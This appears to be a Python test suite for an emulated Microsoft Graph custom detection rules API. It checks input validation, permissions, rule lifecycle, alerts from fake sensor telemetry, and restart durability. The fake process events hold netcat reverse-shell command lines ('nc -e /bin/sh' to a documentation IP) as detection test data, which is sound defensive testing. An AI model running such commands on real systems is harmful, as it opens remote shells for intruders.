"""Custom detection rules in Microsoft Graph's shape (/beta/security/rules/detectionRules): input
validation with the error envelope, permissions, the rule's lifecycle, alerts raised from FakeSensor
telemetry with the template's fields and the rows' evidence, and a hard restart between runs that
neither loses nor repeats an alert. Also a hard restart while streaming detection (Sigma and
indicators) is consuming. No test asserts a timing: they wait for outcomes."""
import time
import uuid

from conftest import Ward, assert_mde_error
from sensor_helpers import FakeSensor, onboarding_info
from shapes import assert_shape
from test_sensor import wait_for

RULES = "/beta/security/rules/detectionRules"
NO_LIMITS = {"rateLimits": {"enabled": False}}  # the tests poll more often than MDE's 100 calls a minute
COLUMNS = "Timestamp, DeviceId, ReportId, DeviceName, FileName, FolderPath, SHA256, ProcessCommandLine, ProcessId, AccountName"


def rule_body(marker, period="1M", **template):
    t = {"title": f"Custom shell {marker}", "description": "nc with -e", "severity": "high", "category": "Execution",
         "recommendedActions": "Isolate the device", "mitreTechniques": ["T1059.004"],
         "impactedAssets": [{"@odata.type": "#microsoft.graph.security.impactedDeviceAsset", "identifier": "deviceId"}]}
    t.update(template)
    return {"displayName": f"nc shell {marker}", "isEnabled": True,
            "queryCondition": {"queryText": f"DeviceProcessEvents | where ProcessCommandLine has '{marker}' | project {COLUMNS}"},
            "schedule": {"period": period},
            "detectionAction": {"alertTemplate": t, "organizationalScope": None, "responseActions": []}}


def custom_alerts(w, token, device=None):
    r = w.get("/api/alerts?$filter=detectionSource eq 'CustomDetection'&$expand=evidence", token)
    assert r.status_code == 200, r.text
    return [a for a in r.json()["value"] if device is None or a["machineId"] == device]


def processes(alert):
    return sorted(e["processId"] for e in alert["evidence"] if e["entityType"] == "Process")


def test_rule_validation_permissions_and_lifecycle(ward, admin_token):
    token = admin_token  # Ward issues tokens for MDE's resources (not Graph's audience) and they serve both APIs
    marker = uuid.uuid4().hex[:10]

    def bad(change, status=400, code="InvalidInput", text=None):
        body = rule_body(marker)
        change(body)
        r = ward.post(RULES, token, json=body)
        assert_mde_error(r, status, code)
        if text:
            assert text in r.json()["error"]["message"], r.text
        return r.json()["error"]["message"]

    def query(q):
        return lambda b: b["queryCondition"].update(queryText=q)

    message = bad(query("DeviceProcessEvents\n| where FileNam == 'x' | project Timestamp, DeviceId, ReportId"),
                  code="BadRequest", text="FileNam")
    assert "line 2" in message, message
    # A query that does not name events (MDE's contract) is refused the same way.
    bad(query("DeviceProcessEvents | summarize count() by DeviceId"), code="BadRequest", text="Timestamp, ReportId")
    bad(query("DeviceProcessEvents | extend ReportId = tostring(ReportId)"), code="BadRequest", text="ReportId as long")
    bad(lambda b: b["schedule"].update(period="2H"), text="schedule.period")
    bad(lambda b: b["schedule"].update(period="1H", lookbackPeriod="10M"), text="lookbackPeriod")
    bad(lambda b: b["detectionAction"]["alertTemplate"].update(severity="critical"), text="severity")
    bad(lambda b: b["detectionAction"]["alertTemplate"].update(category="Nonsense"), text="category")
    bad(lambda b: b["detectionAction"]["alertTemplate"].update(mitreTechniques=["X1"]), text="mitreTechniques")
    bad(lambda b: b["detectionAction"].update(responseActions=[{"identifier": "deviceId"}]), text="responseActions")
    bad(lambda b: b.update(colour="red"), code="InvalidRequestBody", text="colour")
    bad(lambda b: b.pop("displayName"), code="MissingRequiredParameter")
    bad(lambda b: b["detectionAction"]["alertTemplate"].pop("title"), code="MissingRequiredParameter")
    assert_mde_error(ward.post(RULES, token, data="{not json", headers={"Content-Type": "application/json"}),
                     400, "InvalidRequestBody")

    # Permissions: alert readers may not manage rules; Graph's CustomDetection.Read.All may read them.
    def app(*permissions):
        a = ward.admin("apps", "create", "--name", f"cd-{uuid.uuid4().hex[:6]}", "--permissions", ",".join(permissions))
        return ward.app_token(a["clientId"], a["clientSecret"])
    reader = app("CustomDetection.Read.All")
    assert_mde_error(ward.post(RULES, app("Alert.ReadWrite.All"), json=rule_body(marker)), 403, "Forbidden")
    assert_mde_error(ward.get(RULES, app("Alert.ReadWrite.All")), 403, "Forbidden")
    assert_mde_error(ward.post(RULES, reader, json=rule_body(marker)), 403, "Forbidden")
    assert_mde_error(ward.get(RULES), 401, "Unauthorized")

    r = ward.post(RULES, token, json=rule_body(marker, period="24H"))
    assert r.status_code == 201, r.text
    rule = r.json()
    assert rule["@odata.context"].endswith("/beta/$metadata#security/rules/detectionRules/$entity")
    assert rule["@odata.type"] == "#microsoft.graph.security.detectionRule"
    assert rule["id"].isdigit() and rule["isEnabled"] is True and rule["displayName"] == f"nc shell {marker}"
    assert rule["schedule"]["period"] == "24H" and rule["schedule"]["lookbackPeriod"] == "30D"
    assert rule["schedule"]["nextRunDateTime"]
    tmpl = rule["detectionAction"]["alertTemplate"]
    assert tmpl["severity"] == "high" and tmpl["category"] == "Execution" and tmpl["mitreTechniques"] == ["T1059.004"]
    assert tmpl["impactedAssets"][0]["identifier"] == "deviceId"
    assert set(rule["lastRunDetails"]) == {"lastRunDateTime", "status", "failureReason", "errorCode"}
    uuid.UUID(rule["detectorId"])
    assert_mde_error(ward.post(RULES, token, json=rule_body(marker)), 409, "Conflict")  # names are unique

    listed = ward.get(RULES, reader)
    assert listed.status_code == 200, listed.text
    assert listed.json()["@odata.context"].endswith("/beta/$metadata#security/rules/detectionRules")
    assert rule["id"] in [x["id"] for x in listed.json()["value"]]
    only = ward.get(f"{RULES}?$filter=displayName eq 'nc shell {marker}'", reader).json()["value"]
    assert [x["id"] for x in only] == [rule["id"]]
    assert ward.get(f"/v1.0/security/rules/detectionRules/{rule['id']}", reader).json()["id"] == rule["id"]
    # The new rule ran at once (MDE runs a saved rule immediately).
    ran = wait_for(lambda: ward.get(f"{RULES}/{rule['id']}", reader).json()["lastRunDetails"]["status"], 30)
    assert ran == "completed", ran

    r = ward.request("PATCH", f"{RULES}/{rule['id']}", token, json={"isEnabled": False, "schedule": {"period": "3h"}})
    assert r.status_code == 200, r.text
    assert r.json()["isEnabled"] is False and r.json()["schedule"]["period"] == "3H"
    assert r.json()["schedule"]["nextRunDateTime"] is None
    assert r.json()["queryCondition"]["queryText"] == rule["queryCondition"]["queryText"]
    patched = ward.request("PATCH", f"{RULES}/{rule['id']}", token, json={"queryCondition": {"queryText": "DeviceInfo | project Timestamp, DeviceId"}})
    assert_mde_error(patched, 400, "BadRequest")
    assert ward.request("DELETE", f"{RULES}/{rule['id']}", reader).status_code == 403
    assert ward.request("DELETE", f"{RULES}/{rule['id']}", token).status_code == 204
    assert_mde_error(ward.get(f"{RULES}/{rule['id']}", token), 404, "ResourceNotFound")
    assert_mde_error(ward.request("PATCH", f"{RULES}/{rule['id']}", token, json={"isEnabled": True}), 404,
                     "ResourceNotFound")


def test_rule_raises_alerts_and_a_restart_neither_loses_nor_repeats_them(tmp_path):
    w = Ward(tmp_path / "custom", tls=False, config=NO_LIMITS)
    w.start()
    marker = uuid.uuid4().hex[:10]
    try:
        token = w.app_token()
        info = onboarding_info(w, token)
        s1, s2, s3 = (FakeSensor(w, info) for _ in range(3))
        for s in (s1, s2, s3):
            s.enroll()

        def hit(s, pid):
            return s.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="nc", FolderPath="/usr/bin/nc",
                           SHA256="ab" * 32, ProcessCommandLine=f"nc -e /bin/sh 203.0.113.9 4444 {marker}",
                           ProcessId=pid, AccountName="www-data")
        miss = s1.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="nc", FolderPath="/usr/bin/nc",
                        ProcessCommandLine="nc -l 4444", ProcessId=99)
        assert s1.send([hit(s1, 11), miss]).json()["accepted"] == 2
        assert s2.send([hit(s2, 21)]).json()["accepted"] == 1

        r = w.post(RULES, token, json=rule_body(marker))
        assert r.status_code == 201, r.text
        rule = r.json()
        found = wait_for(lambda: len(custom_alerts(w, token)) == 2, 60)
        assert found, custom_alerts(w, token)
        alert = custom_alerts(w, token, s1.device_id)[0]
        assert_shape("Alert", alert)
        assert alert["detectionSource"] == "CustomDetection" and alert["detectorId"] == rule["detectorId"]
        assert alert["title"] == f"Custom shell {marker}" and alert["severity"] == "High"
        assert alert["category"] == "Execution" and alert["mitreTechniques"] == ["T1059.004"]
        assert alert["description"] == "nc with -e" and alert["status"] == "New"
        assert alert["computerDnsName"] == s1.name
        assert alert["relatedUser"]["userName"] == "www-data"
        assert processes(alert) == [11]  # not the near miss
        proc = next(e for e in alert["evidence"] if e["entityType"] == "Process")
        assert marker in proc["processCommandLine"] and proc["sha256"] == "ab" * 32 and proc["fileName"] == "nc"
        assert any(e["entityType"] == "User" and e["accountName"] == "www-data" for e in alert["evidence"])
        # The run is recorded once its rows are through.
        details = wait_for(lambda: w.get(f"{RULES}/{rule['id']}", token).json()["lastRunDetails"]["status"], 30)
        assert details == "completed", details
        assert w.get(f"{RULES}/{rule['id']}", token).json()["lastRunDetails"]["lastRunDateTime"]
        # The alerts are huntable like every other.
        q = w.post("/api/advancedqueries/run", token, json={
            "Query": f"AlertInfo | where DetectionSource == 'CustomDetection' and Title == 'Custom shell {marker}'"})
        assert q.status_code == 200 and len(q.json()["Results"]) == 2, q.text

        # New events, then a hard stop before the next run; the server comes back and the rule runs on
        # schedule (its state is stored): the new events alert once, the old ones (in the overlapping
        # window again) not a second time.
        assert s1.send([hit(s1, 12)]).json()["accepted"] == 1
        assert s3.send([hit(s3, 31)]).json()["accepted"] == 1
        w.proc.kill()
        w.proc.wait(timeout=20)
        w.start()
        token = w.app_token()
        done = wait_for(lambda: len(custom_alerts(w, token)) == 3 and
                        processes(custom_alerts(w, token, s1.device_id)[0]) == [11, 12], 150)
        assert done, custom_alerts(w, token)
        by_device = {}
        for a in custom_alerts(w, token):
            by_device.setdefault(a["machineId"], []).append(a)
        assert sorted(len(v) for v in by_device.values()) == [1, 1, 1], by_device
        assert processes(by_device[s1.device_id][0]) == [11, 12]
        assert processes(by_device[s2.device_id][0]) == [21]
        assert processes(by_device[s3.device_id][0]) == [31]
        assert w.get(f"{RULES}/{rule['id']}", token).json()["alertsRaised"] == 4
    finally:
        w.stop()


def test_restart_while_streaming_detection_consumes_loses_and_repeats_nothing(tmp_path):
    """Sigma and indicator detections over a burst of telemetry, with a hard kill in the middle: after
    the restart every hit is in exactly one alert per rule and device, once."""
    w = Ward(tmp_path / "stream", tls=False, config=NO_LIMITS)
    w.start()
    try:
        token = w.app_token()
        info = onboarding_info(w, token)
        r = w.post("/api/indicators", token, json={"indicatorValue": "198.51.100.77", "indicatorType": "IpAddress",
                                                   "action": "Alert", "title": "Bad address restart",
                                                   "description": "e2e", "severity": "High", "generateAlert": True})
        assert r.status_code == 200, r.text
        time.sleep(1.5)  # the indicator detector re-reads indicators at most every second
        sensors = [FakeSensor(w, info) for _ in range(4)]
        for s in sensors:
            s.enroll()
        expected_nc, expected_ip = {}, {}

        def burst(first_pid, batches):
            for b in range(batches):
                for s in sensors:
                    events = []
                    for i in range(5):
                        pid = first_pid + b * 10 + i
                        events.append(s.event("DeviceProcessEvents", ActionType="ProcessCreated", FileName="nc",
                                              FolderPath="/usr/bin/nc", ProcessCommandLine=f"nc -e /bin/sh 203.0.113.9 {pid}",
                                              ProcessId=pid))
                        events.append(s.event("DeviceNetworkEvents", ActionType="ConnectionSuccess",
                                              RemoteIP="198.51.100.77", RemotePort=443, InitiatingProcessFileName="curl",
                                              InitiatingProcessId=pid))
                        expected_nc.setdefault(s.device_id, []).append(pid)
                        expected_ip.setdefault(s.device_id, []).append(pid)
                    assert s.send(events).json()["accepted"] == len(events)

        burst(1000, 6)
        w.proc.kill()  # detection is likely still consuming the burst
        w.proc.wait(timeout=20)
        w.start()
        token = w.app_token()
        burst(5000, 4)

        def alerts():
            r = w.get("/api/alerts?$expand=evidence", token)
            assert r.status_code == 200, r.text
            return r.json()["value"]

        def complete():
            got = alerts()
            nc = {a["machineId"]: a for a in got if a["detectionSource"] == "WardEdr"}
            ip = {a["machineId"]: a for a in got if a["detectionSource"] == "CustomTi"}
            return all(len(processes(nc.get(s.device_id, {"evidence": []}))) >= len(expected_nc[s.device_id]) and
                       len(processes(ip.get(s.device_id, {"evidence": []}))) >= len(expected_ip[s.device_id])
                       for s in sensors)
        assert wait_for(complete, 60), alerts()
        got = alerts()
        for s in sensors:
            nc = [a for a in got if a["machineId"] == s.device_id and a["detectionSource"] == "WardEdr"]
            ip = [a for a in got if a["machineId"] == s.device_id and a["detectionSource"] == "CustomTi"]
            assert len(nc) == 1 and len(ip) == 1, (nc, ip)
            assert processes(nc[0]) == sorted(expected_nc[s.device_id])  # every hit, none twice
            # The indicator alert's acting process is the connection's initiating process.
            assert processes(ip[0]) == sorted(expected_ip[s.device_id])
            assert sum(1 for e in ip[0]["evidence"] if e["entityType"] == "Ip") == len(expected_ip[s.device_id])
    finally:
        w.stop()
